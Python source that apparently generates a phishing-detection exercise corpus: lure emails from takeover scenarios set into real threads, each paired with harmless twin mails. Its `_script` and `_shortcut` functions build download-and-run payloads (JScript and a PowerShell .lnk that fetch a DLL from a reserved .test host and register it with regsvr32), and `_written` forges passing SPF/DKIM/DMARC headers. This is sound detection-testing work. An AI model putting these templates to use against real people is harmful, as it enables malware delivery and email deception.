"""Writes lures and their innocent twins into real conversations: one writer for both, so that only facts differ.

Header order, identifiers, route and quoting are drawn from real mails (``grounds``); words, archives and documents are
the exercise's. A graft is a play: mails that are only learned, then mails that are judged one after the other.
"""

import io
import re
import struct
import tomllib
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from pathlib import Path

from grounds import LANGUAGES, Ground, Grounds, letters, person, trace
from seriema.exercise.attachments import bundle, cms_url, harmless, page, payload
from seriema.exercise.cast import Person
from seriema.exercise.dice import Dice
from seriema.exercise.letter import Attachment, Letter, new_id
from seriema.exercise.route import Gateway
from seriema.exercise.wording import LONG_PASSWORD, answered, password, phrase, short
from seriema.exercise.writer import raw
from seriema.model.message import Address, Message

DATA = tomllib.loads(Path(__file__).with_name("grafts.toml").read_text("utf-8"))
SHARES = DATA["shares"]
#: What a lure brings. The first four lie in a locked archive with the password in the text or are macro documents.
PAYLOADS = ("locked-document", "locked-script", "locked-shortcut", "macro", "link", "text")
ATTACHED = frozenset(PAYLOADS[:4])
#: Innocent mails, each with what it brings. ``*-habit``: the pair exchanged locked files before, and both wrote.
TWINS = {
    "bundle": "locked", "macro": "macro", "locked-macro": "locked", "long-silence": "locked", "joining": "locked",
    "phone": "locked", "moved": "locked", "statement": "shut", "statement-habit": "shut", "ppap": "apart",
    "ppap-habit": "apart", "locked-habit": "locked", "link": "link", "text": "text",
    "joining-link": "link", "phone-text": "text", "moved-text": "text",
}  # fmt: skip
#: Of the locked and macro twins; drawn so that the kinds a policy must let through are the many.
DRAWN = ("bundle", "bundle", "macro", "macro", "locked-macro", "long-silence", "joining", "phone", "moved", "statement",
         "statement-habit", "ppap", "ppap-habit", "locked-habit")  # fmt: skip
PLAIN = ("link", "text", "link", "text", "joining-link", "phone-text", "moved-text")
HABIT_MONTHS = (75, 45, 14)  #: days before, of the locked mails of a habit and of the answers to them
OCTETS_A_LINE = 49  #: of a packed line of sixty letters and digits
DOC, DOCM = "application/msword", "application/vnd.ms-word.document.macroEnabled.12"


@dataclass(frozen=True, slots=True)
class Step:
    """One mail of a play."""

    raw: bytes
    moment: datetime
    judged: bool = True
    reader: str = ""  #: the domain whose server received it
    locked_by: str = field(default="", repr=False)  #: its password, for the leak probe to hide
    names: tuple[str, ...] = ()  #: of archive and documents, likewise


@dataclass(frozen=True, slots=True)
class Play:
    """A lure campaign or one twin on its ground."""

    pattern: str  #: true-mailbox, strange-account, or the twin's name
    brings: str
    language: str  #: of the words written
    thread_language: str
    corpus: str
    account: str  #: address of whose mailbox or name it is
    conversations: tuple[str, ...]  #: of each judged mail
    silences: tuple[str, ...]
    steps: tuple[Step, ...]
    prelude: tuple[Step, ...] = ()  #: mails long before, unknown on a cold start
    own_route: bool = True
    lure: bool = False


def plays(grounds: Grounds, count: int) -> Iterator[Play]:
    """``count`` lure campaigns of each pattern in turn, each with as many twins on the same grounds as it has lures."""
    donors = [mail for sender in grounds.senders for mail in grounds.written[sender][-1:]]
    for number in range(count):
        dice = Dice(f"takeover/{grounds.corpus.name}/{number}")
        yield from Scene(grounds, dice, donors, number).plays()


class Scene:
    """One stolen account: its lures, and the honest mails its owner might have written instead."""

    def __init__(self, grounds: Grounds, dice: Dice, donors: Sequence[Message], number: int) -> None:
        self.grounds, self.dice, self.donors = grounds, dice, donors
        self.pattern = ("true-mailbox", "strange-account")[number % 2]
        self.brings = PAYLOADS[number // 2 % len(PAYLOADS)]
        self.turn = number

    def plays(self) -> Iterator[Play]:
        """The lures, then a twin for each of them on the same ground."""
        used = self._grounds()
        shown = [self._language(one, number) for number, one in enumerate(used)]
        yield self._lures(used, shown)
        for number, (ground, language) in enumerate(zip(used, shown, strict=True)):
            dice = self.dice.child(f"twin/{number}")
            moment = ground.moment + timedelta(seconds=dice.randrange(-40_000, 40_000))
            names = DRAWN if self.brings in ATTACHED else PLAIN
            name = names[(self.turn // 2 + number) % len(names)] if self.brings in ATTACHED else dice.choice(names)
            yield self._twin(dice, replace(ground, moment=moment), language, name)

    def _grounds(self) -> list[Ground]:
        """One conversation of the account after a drawn silence, and others of it within hours."""
        dice, grounds = self.dice.child("grounds"), self.grounds
        wanted = dice.choice(SHARES["sweep"])
        able = [one for one in grounds.senders if len({name for name, _ in grounds.by_sender[one]}) >= wanted]
        sender = dice.choice(able or grounds.senders)
        places = grounds.by_sender[sender]
        by_conversation = {
            conversation: (conversation, target) for conversation, target in dice.sample(places, len(places))
        }
        chosen = dice.sample(sorted(by_conversation.values()), min(len(by_conversation), wanted))
        first = grounds.ground(dice, sender, *chosen[0])
        found, moment = [first], first.moment
        for conversation, target in chosen[1:]:
            moment += timedelta(seconds=dice.randrange(300, 9_000))
            ground = grounds.ground(dice, sender, conversation, target, moment)
            if ground.before[0].time and ground.before[-1].time < moment:  # type: ignore[operator] - has a time
                found.append(ground)
        return found

    def _language(self, ground: Ground, number: int) -> str:
        dice = self.dice.child(f"language/{number if self.brings == 'text' else 0}")
        return ground.language if dice.chance(SHARES["same_language"]) else dice.choice(LANGUAGES)

    # -- lures ---------------------------------------------------------------------------------------------------------

    def _lures(self, used: Sequence[Ground], shown: Sequence[str]) -> Play:
        dice = self.dice.child("lures")
        own = self.pattern == "true-mailbox" and dice.chance(SHARES["own_route_lure"])
        donor = dice.choice(self.donors)
        secret, host = password(dice), f"{dice.shape('{l8}')}.test"
        steps = []
        for number, (ground, language) in enumerate(zip(used, shown, strict=True)):
            child = dice.child(str(number))
            style = ground.style if own else donor
            sender = ground.sender
            if self.pattern == "strange-account":
                sender = Address(ground.sender.name, donor.sender.address)
                if sender.key == ground.sender.key:
                    sender = Address(ground.sender.name, f"mail@{host}")
            letter = _letter(child, ground, sender, style, language, linked=child.chance(SHARES["linked"]))
            steps.append(_filled(child, ground, letter, style, self.brings, secret, host))
        first = used[0]
        return Play(
            self.pattern, self.brings, shown[0], first.language, first.corpus, first.sender.key,
            tuple(one.conversation for one in used), tuple(one.silence.value for one in used), tuple(steps),
            own_route=own, lure=True,
        )  # fmt: skip

    # -- twins ---------------------------------------------------------------------------------------------------------

    def _twin(self, dice: Dice, ground: Ground, language: str, name: str) -> Play:
        brings = TWINS[name]
        donor = dice.choice(self.donors)
        own = not name.startswith("phone") and dice.chance(SHARES["own_route_twin"])
        style = ground.style if own else donor
        sender = ground.sender
        if name.startswith("joining"):
            sender = Address(donor.sender.name, f"{donor.sender.key.partition('@')[0]}@{ground.sender.domain}")
        elif name.startswith("moved"):
            sender = Address(ground.sender.name, f"{ground.sender.key.partition('@')[0]}@{donor.sender.domain}")
        prelude = [*self._bilingual(dice, ground, language), *(_habit(dice, ground, brings) if "habit" in name else ())]
        letter = _letter(dice, ground, sender, style, language, linked=dice.chance(SHARES["linked"]))
        if "habit" not in name and dice.chance(SHARES["to_all_twin"]):
            everybody = tuple(person(one, style, language) for one in ground.others[:8])
            letter = replace(letter, cc=everybody)
        secret, host = password(dice), f"{dice.shape('{l8}')}.test"
        kind = {"macro": "harmless-macro", "locked-macro": "harmless-locked-macro"}.get(name, f"harmless-{brings}")
        steps = [_filled(dice, ground, letter, style, kind, secret, host)]
        if brings == "apart":
            steps.append(_password_mail(dice, ground, letter, style))
        return Play(
            name, brings, language, ground.language, ground.corpus, ground.sender.key, (ground.conversation,),
            (ground.silence.value,), tuple(steps), tuple(prelude), own,
        )  # fmt: skip

    def _bilingual(self, dice: Dice, ground: Ground, language: str) -> Iterator[Step]:
        """Who writes in another language than the thread did so before."""
        if language == ground.language:
            return
        dice = dice.child("bilingual")
        earlier = replace(ground, moment=ground.moment - timedelta(days=dice.randrange(3, 25)))
        letter = _letter(dice, earlier, ground.sender, ground.style, language, linked=False)
        words = short(dice, language, letter.to[0], pool="follows")
        letter = replace(letter, words=words, parent=None, subject=phrase(dice, language, "follows")[:60])
        yield Step(_written(letter, ground.style, earlier), earlier.moment, judged=False)


def _habit(dice: Dice, ground: Ground, brings: str) -> Iterator[Step]:
    """Locked files from this sender to this reader, each answered some days later."""
    kind = {"shut": "harmless-shut", "apart": "harmless-apart"}.get(brings, "harmless-locked")
    for days in HABIT_MONTHS:
        child = dice.child(f"habit/{days}")
        then = replace(ground, moment=ground.moment - timedelta(days=days, seconds=child.randrange(9_000)))
        letter = _letter(child, then, ground.sender, ground.style, ground.language, linked=False)
        letter = replace(letter, parent=None, subject=f"{child.shape('{U2}{d5}')}")
        secret = password(child)
        yield replace(_filled(child, then, letter, ground.style, kind, secret, "habit.test"), judged=False)
        back = replace(then, moment=then.moment + timedelta(hours=20), sender=ground.target, target=ground.sender)
        answer = _letter(child.child("answer"), back, ground.target, ground.style, ground.language, linked=False)
        answer = replace(answer, parent=letter, linked=True, subject=answered(letter.subject, answer.author))
        yield Step(_written(answer, ground.style, back), back.moment, judged=False)


def _password_mail(dice: Dice, ground: Ground, letter: Letter, style: Message) -> Step:
    """The second mail, with the password of the first."""
    later = replace(ground, moment=ground.moment + timedelta(seconds=dice.randrange(60, 700)))
    told = phrase(dice, letter.language, "follow_up", password=dice.child("apart").shape(LONG_PASSWORD))
    second = replace(
        letter, words=told, sent=later.moment, message_id=new_id(dice.child("second"), letter.author), attachments=(),
        parent=None, linked=False,
    )  # fmt: skip
    return Step(_written(second, style, later), later.moment, reader=ground.target.domain)


# -- one mail ----------------------------------------------------------------------------------------------------------


def _letter(dice: Dice, ground: Ground, sender: Address, style: Message, language: str, *, linked: bool) -> Letter:
    """The mail without words and file."""
    author = person(sender, style, ground.language)
    parent = letters(ground.before, ground.language)
    assert parent
    return Letter(
        author=author,
        to=(person(ground.target, style, ground.language),),
        sent=ground.moment - timedelta(seconds=dice.randrange(2, 40)),
        subject=answered(parent.subject, author),
        words="",
        language=language,
        conversation="",
        message_id=new_id(dice, author),
        signature=" \n".join(ground.style.body.signature.split("\n"))[:400],
        parent=parent,
        linked=linked,
    )


def _filled(dice: Dice, ground: Ground, letter: Letter, style: Message, kind: str, secret: str, host: str) -> Step:
    """The mail with its words and what it brings, as bytes."""
    reader, language = letter.to[0], letter.language
    words, files = dice.child("words"), dice.child("file")
    attached: tuple[Attachment, ...] = ()
    names: tuple[str, ...] = ()
    told = ""
    plain = kind.removeprefix("harmless-")
    if plain in {"link", "text"}:
        text = _plain(words, letter, plain, host)
    else:
        url = cms_url(files, host)
        attached, names, told = _files(files, letter, kind, secret, url)
        note = phrase(words, language, "follows") if plain == "apart" else ""
        text = short(words, language, _addressed(reader), told, note=note)
    letter = replace(letter, words=text, attachments=attached)
    return Step(
        _written(letter, style, ground), ground.moment, reader=ground.target.domain, locked_by=told, names=names
    )


def _addressed(reader: Person) -> Person:
    """With a first name to greet."""
    return replace(reader, first=reader.name.split()[0] if reader.name.split() else "")


def _plain(dice: Dice, letter: Letter, kind: str, host: str) -> str:
    data = DATA[letter.language]
    said = dice.choice(data[kind])
    if kind == "link":
        said = said.replace("{link}", f"https://{host}/{dice.shape('{l6}')}/{dice.shape('{B12}')}")
    blocks = [phrase(dice, letter.language, "greeting", first=_addressed(letter.to[0]).first, last=letter.to[0].first)]
    blocks.append(f"{dice.choice(data['lead'])} {said}" if dice.chance(0.5) else said)
    blocks.append(phrase(dice, letter.language, "closing"))
    return "\n\n".join(blocks)


def _files(
    dice: Dice, letter: Letter, kind: str, secret: str, url: str
) -> tuple[tuple[Attachment, ...], tuple[str, ...], str]:
    """Attachments, their names, and the password that the text names."""
    if kind in {"locked-document", "macro"}:
        enclosed = payload(dice, letter, secret if kind != "macro" else "", url)
    elif kind in {"locked-script", "locked-shortcut"}:
        name = f"{dice.choice(('info', 'statement', 'details', 'report'))}_{letter.sent:%m_%d}"
        size = _packed_size(dice, letter, url)
        member = (_script if kind == "locked-script" else _shortcut)(dice, name, url, size)
        enclosed = bundle(dice, letter, [member], secret)
    elif kind == "harmless-shut":
        size = _packed_size(dice, letter, url)
        lines = [dice.shape("{B60}") for _ in range(size // OCTETS_A_LINE)]
        enclosed = bundle(
            dice, letter, [(f"statement_{dice.shape('{d6}')}.pdf", page("statement", lines))], dice.shape("{d8}{d8}")
        )
    elif kind == "harmless-apart":
        enclosed = harmless(dice, letter, dice_password(dice))
    elif kind == "harmless-macro":
        enclosed = harmless(dice, letter, "", macro=True)
    else:
        enclosed = harmless(dice, letter, secret, macro=kind == "harmless-locked-macro")
    names = (enclosed.facts.archive, *enclosed.facts.documents)
    if kind in {"macro", "harmless-macro"}:
        return (_bare(enclosed.attachments[0].content),), names, ""
    return enclosed.attachments, names, "" if kind in {"harmless-shut", "harmless-apart"} else secret


def dice_password(files: Dice) -> str:
    """The password of a file whose mail does not name it: drawn as ``_password_mail`` draws it."""
    return Dice(files.label.removesuffix("/file")).child("apart").shape(LONG_PASSWORD)


def _packed_size(dice: Dice, letter: Letter, url: str) -> int:
    """Octets of a packed document as such waves carry them: whatever else is in an archive is as large."""
    return len(payload(dice.child("model"), letter, "", url).attachments[0].content)


def _bare(archive: bytes) -> Attachment:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        name = opened.namelist()[0]
        return Attachment(name, opened.read(name), DOCM if name.endswith("m") else DOC)


def _script(dice: Dice, name: str, url: str, size: int) -> tuple[str, bytes]:
    """A Windows script that would fetch and run something from a reserved host."""
    notes = "".join(f"// {dice.shape('{B60}')}\r\n" for _ in range(size // OCTETS_A_LINE))
    text = (
        f'{notes}var w = new ActiveXObject("MSXML2.XMLHTTP");\r\nw.open("GET", "{url}", false);\r\nw.send();\r\n'
        'var s = new ActiveXObject("ADODB.Stream");\r\ns.Type = 1; s.Open(); s.Write(w.responseBody);\r\n'
        's.SaveToFile("C:\\\\ProgramData\\\\a.dll");\r\n'
        'new ActiveXObject("WScript.Shell").Run("regsvr32 -s C:\\\\ProgramData\\\\a.dll");\r\n'
    )
    return f"{name}.{dice.choice(('js', 'wsf'))}", text.encode()


def _shortcut(dice: Dice, name: str, url: str, size: int) -> tuple[str, bytes]:
    """A Windows shortcut ([MS-SHLLINK] 2.1, 2.4) whose arguments would fetch something from a reserved host."""
    arguments = f"/c powershell -w hidden iwr {url} -OutFile %TEMP%\\a.dll; regsvr32 -s %TEMP%\\a.dll"
    header = (
        struct.pack("<I", 76) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", 0x80 | 8 | 0x20)
    )
    strings = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in ("..\\cmd.exe", arguments))
    padding = dice.randbytes(max(0, size - 600))
    return f"{name}.lnk", header.ljust(76, b"\0") + strings + bytes(4) + padding


def _written(letter: Letter, style: Message, ground: Ground) -> bytes:
    """The writer's bytes with the trace of real mails in front instead of its own."""
    reader = letter.to[0].address
    gateway = Gateway(letter.to[0].organisation, (letter.to[0].organisation.domain,))
    whole = raw(letter, gateway)
    head, _, body = whole.partition(b"\n\n")
    fields = re.split(rb"\n(?=[^ \t])", head)
    author = [
        one
        for one in fields
        if not one.lower().startswith((b"return-path:", b"received:", b"authentication-results:", b"dkim-signature:"))
    ]
    domain = letter.author.organisation.domain
    results = (
        f"{gateway.host};\n\tspf=pass smtp.mailfrom={letter.author.address};\n\tdkim=pass header.d={domain};"
        f"\n\tdmarc=pass header.from={domain}"
    )
    dice = Dice(f"trace/{letter.message_id}")
    before = [("Return-Path", f"<{letter.author.address}>"), *trace(style, ground.moment, dice, reader)]
    before.insert(2, ("Authentication-Results", results))
    lines = b"".join(f"{name}: {value}\n".encode("utf-8", "replace") for name, value in before)
    return lines + b"\n".join(author) + b"\n\n" + body
